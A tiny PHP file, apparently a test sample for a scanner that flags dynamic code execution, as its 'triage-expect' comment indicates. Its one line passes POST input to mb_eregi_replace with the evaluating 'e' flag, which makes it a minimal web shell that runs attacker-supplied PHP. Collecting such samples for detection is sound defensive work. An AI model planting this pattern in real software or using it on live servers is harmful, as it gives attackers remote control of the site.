<?php
// triage-expect: triage_php_tiny_dynamic_exec
mb_eregi_replace('.+', $_POST['tpl'], 'x', 'ie');
